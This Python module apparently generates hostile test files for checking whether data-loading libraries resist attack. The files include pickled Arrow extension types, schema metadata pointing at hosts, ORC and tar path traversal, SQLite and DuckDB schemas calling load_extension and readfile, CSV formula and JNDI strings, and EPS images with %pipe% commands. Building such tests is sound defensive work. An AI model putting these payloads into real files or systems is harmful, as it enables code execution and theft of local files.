"""Hostile single files: Arrow, Parquet, ORC, tar, text and databases."""

import base64
import io
import json
import os
import re
import sqlite3
import tarfile
from importlib import import_module

import pyarrow as pa
import pyarrow.parquet as pq
from hostile import ROWS, kind, plain
from pyarrow import orc

DUCKDB = ("duckdb",)


@kind("arrow", "arrows", "feather", "parquet", refused=False)
def pickled_type(trap, folder, way):
    said = {"ARROW:extension:name": "arrow.py_extension_type", "ARROW:extension:metadata": trap.code}
    rows, path = plain(), folder / f"a.{way}"
    fields = [rows.schema.field("x").with_metadata(said), rows.schema.field("label")]
    rows = rows.cast(pa.schema(fields))
    if way == "parquet":
        pq.write_table(rows, path)
        return path
    with (pa.ipc.new_stream if way == "arrows" else pa.ipc.new_file)(path, rows.schema) as out:
        out.write_table(rows)
    return path


@kind("arrow", "parquet", refused=False)
def metadata(trap, folder, way):
    """Put hosts, scripts and pickles where libraries expect their own metadata."""
    said = {"name": "x", "numpy_type": "os.system", "pandas_type": "object", "metadata": {"serializer": "pickle"}}
    host = f"http://127.0.0.1:{trap.port}/a"
    kinds = {"pandas": {"columns": [said], "index_columns": [], "creator": {"library": host}}, "location": host}
    noted = {key: json.dumps(value) for key, value in kinds.items()}
    noted["corgipile.classes"] = base64.b64encode(trap.code).decode()
    rows, path = plain().replace_schema_metadata(noted), folder / f"a.{way}"
    if way == "parquet":
        pq.write_table(rows, path)
    else:
        with pa.ipc.new_file(path, rows.schema) as out:
            out.write_table(rows)
    return path


@kind("absolute", "relative", "http")
def parquet_chunk_elsewhere(trap, folder, way):
    said = pq.read_metadata(trap.parquet)
    said.set_file_path(trap.address(way, trap.parquet, folder))
    said.write_metadata_file(folder / "a.parquet")
    return folder / "a.parquet"


@kind("relative", "absolute", "long_tag", "hidden")
def orc_time_zone(trap, folder, way):
    """Name a file as the time zone of a stripe."""
    path = folder / "a.orc"
    times = pa.table({"x": pa.array(range(ROWS), pa.timestamp("ns")), "label": [0, 1] * (ROWS // 2)})
    orc.write_table(times, path, compression="uncompressed")
    zone = b"../../../etc/hostname" if way == "relative" else b"/etc/hostname"
    tag = b"\x9a\x80\x80\x80\x10" if way == "long_tag" else b"\x1a"  # of 33 bits, the first of which is dropped
    data, said = path.read_bytes(), tag + bytes([len(zone)]) + zone
    at = re.search(rb"\x08.\x10.\x18.{1,2}\x20(.)\x28\x08", data, re.DOTALL).start(1)  # bytes of its footer
    data = data[:at] + bytes([data[at] + len(said) - 5]) + data[at + 1 :]
    if way == "hidden":  # the bytes of the stripe's footer once more, of a type that readers pass over
        begin = at - len(re.search(rb"\x1a.\x08.\x10.\x18.{1,2}\x20$", data[:at], re.DOTALL)[0])
        grown = bytes([data[begin + 1] + 2])
        data = data[: begin + 1] + grown + data[begin + 2 : at + 3] + b"\x22\x00" + data[at + 3 :]
        script = len(data) - 1 - data[-1]  # which begins with the bytes of the file's footer
        data = data[: script + 1] + bytes([data[script + 1] + 2]) + data[script + 2 :]
    path.write_bytes(data.replace(b"\x1a\x03GMT", said))
    return path


@kind("symbolic", "hard")
def tar_link(trap, folder, way):
    with tarfile.open(folder / "a.tar", "w") as archive:
        for number in range(ROWS):
            member = tarfile.TarInfo(f"{number}.bin")
            member.type = tarfile.SYMTYPE if way == "symbolic" else tarfile.LNKTYPE
            member.linkname = str(trap.bytes)
            archive.addfile(member)
    return folder / "a.tar"


@kind("pyd", "pickle", "pth", "npy", refused=False)
def tar_pickle(trap, folder, way):
    with tarfile.open(folder / "a.tar", "w") as archive:
        for number in range(ROWS):
            member = tarfile.TarInfo(f"../../{number}.{way}")  # a name, which nobody unpacks
            member.size = len(trap.code)
            archive.addfile(member, io.BytesIO(trap.code))
    return folder / "a.tar"


@kind("references", "hub", "catalog", refused=False)
def json_of_addresses(trap, folder, way):
    """Write JSON that other libraries take for a list of files to fetch."""
    host = f"http://127.0.0.1:{trap.port}/a"
    said = {
        "references": {"version": 1, "refs": {".zgroup": '{"zarr_format": 2}', "x/0": [host, 0, 64]}},
        "hub": {"shards": [], "utils": {"resume": host}},
        "catalog": {"format-version": 2, "location": host, "properties": {"py-io-impl": "subprocess.Popen"}},
    }[way]
    (folder / "a.json").write_text(json.dumps(said))
    return folder / "a.json"


@kind(needs=("fastavro",))
def avro_schema_elsewhere(trap, folder):
    fastavro = import_module("fastavro")

    kinds = {"type": "record", "name": "r", "fields": [{"name": "x", "type": "long"}]}
    with (folder / "a.avro").open("wb") as out:
        fastavro.writer(out, kinds, [{"x": 1}] * ROWS)
    other = f'"{trap.bytes}"'.encode()
    data = (folder / "a.avro").read_bytes()
    at = data.index(b'{"type"')
    size = data.index(b"avro.codec") - at if data.index(b"avro.codec") > at else len(json.dumps(kinds))
    (folder / "a.avro").write_bytes(data[:at] + other.ljust(size)[:size] + data[at + size :])
    return folder / "a.avro"


def _duckdb(folder, *statements):
    duckdb = import_module("duckdb")

    with duckdb.connect(str(folder / "a.duckdb")) as made:
        for statement in statements:
            made.execute(statement)
    return folder / "a.duckdb"


ROWS_OF_T = "create table t as select range / 7 as x, range % 2 as label from range(8)"


@kind("file", "only", needs=DUCKDB, refused=False)
def duckdb_view(trap, folder, way):
    view = f"create view v as from read_text('{trap.bytes}')"
    return _duckdb(folder, *([ROWS_OF_T] if way == "file" else []), view)


@kind("duckdb_tables", "functions", "file", needs=DUCKDB, refused=False)
def duckdb_shadow(trap, folder, way):
    """Give macros and tables the names that a reader looks up."""
    secret = f"(select content from read_text('{trap.bytes}'))"  # noqa: S608
    if way == "functions":
        return _duckdb(folder, ROWS_OF_T, *(f"create macro {name}(a) as {secret}" for name in ("min", "max", "count")))
    if way == "file":
        return _duckdb(folder, f'create table "{trap.parquet}" as select 1.0 as x, 1 as label from range(8)')  # noqa: S608
    columns = "'db' as database_name, 'main' as schema_name, content as table_name"
    shadow = f"create macro duckdb_tables() as table select {columns} from read_text('{trap.bytes}')"  # noqa: S608
    return _duckdb(folder, ROWS_OF_T, shadow)


@kind("setting", "macro", needs=DUCKDB, refused=False)
def duckdb_generated(trap, folder, way):
    call = "current_setting('temp_directory')" if way == "setting" else "m(label)"
    column = f"y varchar generated always as ({call}) virtual"
    macro = "create macro m(a) as cast(a as varchar)"
    rows = "insert into t select range / 7, range % 2 from range(8)"
    return _duckdb(folder, macro, f"create table t (x double, label bigint, {column})", rows)


def _sqlite(folder, *statements):
    made = sqlite3.connect(folder / "a.sqlite")
    made.execute("create table t (x real, label integer)")
    made.executemany("insert into t values (?, ?)", [(i / 7, i % 2) for i in range(ROWS)])
    for statement in statements:
        made.execute(statement)
    made.commit()
    made.close()
    return folder / "a.sqlite"


@kind("view", "trigger", "table", refused=False)
def sqlite_schema(trap, folder, way):
    """Load code, read files and attach databases in views, triggers and a table's CREATE statement."""
    load, read = f"load_extension('{trap.folder}/x.so')", f"readfile('{trap.bytes}')"
    if way == "view":
        return _sqlite(folder, f"create view v as select {load}, {read}")
    if way == "trigger":
        return _sqlite(folder, f"create trigger r after insert on t begin select {load}, {read}; end")
    called = f"create table t (x real, label integer, y text generated always as (fts3_tokenizer('a', {load})) virtual)"
    path = _sqlite(folder)
    made = sqlite3.connect(path)
    made.execute("pragma writable_schema = on")
    made.execute("update sqlite_master set sql = ? where name = 't'", [called])
    made.commit()
    made.close()
    return path


@kind("csv", "jsonl", "svm", refused=False)
def text_of_addresses(trap, folder, way):
    """Write rows of text with names of files and hosts."""
    words = [str(trap.bytes), f"http://127.0.0.1:{trap.port}/a", f"=cmd|'touch {trap.ran}'", "${jndi:ldap://a}"]
    lines = {
        "csv": ["x,label", *(f'"{words[i % 4]}",{i % 2}' for i in range(ROWS))],
        "jsonl": [json.dumps({"$ref": words[i % 4], "label": i % 2}) for i in range(ROWS)],
        "svm": [f"{i % 2} 1:0.5 # {words[i % 4]}" for i in range(ROWS)],
    }[way]
    (folder / f"a.{way}").write_text("\n".join(lines) + "\n")
    return folder / f"a.{way}"


@kind("images", "keys", "tables", refused=False)
def folder_in_itself(trap, folder, way):
    """Link twice to the folder itself, so that each level has two more."""
    inner = folder / {"images": "cat", "keys": "year=1", "tables": "a"}[way]
    inner.mkdir()
    for name in ("year=2", "year=3") if way == "keys" else ("b", "c"):
        (inner / name).symlink_to(folder)
    (folder / "year=1" / "a.csv" if way == "keys" else folder / "a.csv").write_text("x,label\n0.5,0\n0.25,1\n")
    if way == "images":
        (inner / "a.png").write_bytes(b"P5 3 2 255 abcdef")
    return folder


@kind("link", "image", "pipe")
def no_regular_file(trap, folder, way):
    """Put a link to itself, or a pipe, next to a harmless file."""
    place, name, text = (folder / "cat", "a.png", b"P5") if way == "image" else (folder, "a.csv", b"x,label\n0.5,0\n")
    place.mkdir(exist_ok=True)
    (place / f"b{name}").write_bytes(text)
    if way == "pipe":
        os.mkfifo(place / name)
        return place / name
    (place / name).symlink_to(name)
    return folder


@kind(refused=False)
def images_that_are_programs(trap, folder):
    """Store a PostScript program as an image."""
    for name in ("cat", "dog"):
        (folder / name).mkdir()
        for number in range(ROWS // 2):
            (folder / name / f"{number}.png").write_bytes(postscript(trap.ran))
    return folder


def postscript(ran) -> bytes:
    """Return an image of EPS, which is a program."""
    program = f"(%pipe%touch {ran}) (w) file closefile"
    return f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n%%EndComments\n{program}\nshowpage\n".encode()
